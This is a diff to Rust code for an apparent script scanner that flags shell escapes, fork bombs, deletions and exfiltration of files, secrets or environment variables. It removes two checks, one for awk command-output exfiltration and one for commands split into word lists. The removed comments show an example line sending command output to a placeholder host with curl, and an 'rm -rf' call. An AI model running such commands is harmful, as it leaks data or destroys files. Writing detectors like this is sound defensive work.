@@ -38,15 +38,6 @@ pub(crate) fn judge(
     };
     judge.calls_together(&lower);
     judge.sends_secret(text);
-    if judge.calls.runs {
-        for command in listed_words(text) {
-            analysis.command_text(&command, judge.span, judge.findings);
-        }
-        judge.asks_and_sends(language, text, &lower);
-        for command in super::joined::commands(text) {
-            analysis.command_text(&command, judge.span, judge.findings);
-        }
-    }
     for literal in literals(text).chain(braced(text)) {
         judge.literal(literal, &lower);
     }
@@ -92,13 +83,13 @@ impl Calls {
             // In awk only that path opens one; other words are what it looks for.
             socket: match language {
                 Some(Language::Awk) => lower.contains("/inet"),
-                _ => any(SOCKETS),
+                _ => any(&SOCKETS),
             },
-            runs: any(RUNS),
+            runs: any(&RUNS),
             evaluates: any(EVALUATES),
-            decodes: any(DECODES),
-            writes: any(WRITES),
-            deletes: any(DELETES) || calls_rm(lower),
+            decodes: any(&DECODES),
+            writes: any(&WRITES),
+            deletes: any(&DELETES) || calls_rm(lower),
         }
     }
 }
@@ -134,7 +125,7 @@ impl Judge<'_> {
                 .add(Rule::ShellEscape, self.span, "starts a shell");
         }
         let any = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
-        if calls.socket && any(SENDS) && any(READS) {
+        if calls.socket && any(&SENDS) && any(&READS) {
             let reason = "sends a file over a connection of its own";
             self.findings.add(Rule::Exfiltration, self.span, reason);
         }
@@ -179,7 +170,7 @@ impl Judge<'_> {
             self.findings.add(Rule::ForkBomb, self.span, reason);
         }
         let environment = ["%env", "env[", "env.to", "getenv()", "environ", "$_env"];
-        if has_any(&environment) && has_any(&["http://", "https://", "ftp://"]) && has_any(FETCHES)
+        if has_any(&environment) && has_any(&["http://", "https://", "ftp://"]) && has_any(&FETCHES)
         {
             let reason = "sends the environment to another machine";
             self.findings.add(Rule::Exfiltration, self.span, reason);
@@ -210,31 +201,6 @@ impl Judge<'_> {
         let secret = words.by_ref().take(MOST_WORDS).find(telling);
         if let Some(secret) = secret {
             let reason = format!("sends {secret} to another machine");
-            self.findings.add(Rule::Exfiltration, self.span, reason);
-        }
-    }
-
-    /// `"id" | getline x; system("curl host/?" x)`
-    fn asks_and_sends(&mut self, language: Option<Language>, text: &str, lower: &str) {
-        if language != Some(Language::Awk) || !lower.contains("getline") {
-            return;
-        }
-        let first = |literal: &'_ str| {
-            literal
-                .split_ascii_whitespace()
-                .next()
-                .unwrap_or_default()
-                .to_owned()
-        };
-        let programs: Vec<String> = literals(text).take(64).map(first).collect();
-        let asks = programs
-            .iter()
-            .any(|program| Group::Tells.has(program) || program == "cat");
-        let sends = programs
-            .iter()
-            .any(|program| Group::Fetchers.has(program) || Group::Streams.has(program));
-        if asks && sends {
-            let reason = "sends what a command tells to another machine";
             self.findings.add(Rule::Exfiltration, self.span, reason);
         }
     }
@@ -300,23 +266,6 @@ fn reads_local(lower: &str) -> bool {
             named.is_some_and(|name| !name.starts_with("http") && !name.starts_with("php:"))
         })
     })
-}
-
-/// Commands given word by word: `exec "rm", "-rf", "/x"`.
-fn listed_words(text: &str) -> Vec<String> {
-    let literals: Vec<&str> = literals(text).take(64).collect();
-    let named = |literal: &str| {
-        let name = literal.rsplit('/').next().unwrap_or_default();
-        Group::WorthHiding.has(name)
-            || name.starts_with("mkfs")
-            || matches!(name, "shred" | "shutdown" | "reboot")
-    };
-    let starts = literals
-        .iter()
-        .enumerate()
-        .filter(|(_, literal)| named(literal));
-    let join = |(at, _): (usize, &&str)| literals[at..literals.len().min(at + 6)].join(" ");
-    starts.take(8).map(join).collect()
 }
 
 /// The insides of quoted strings.
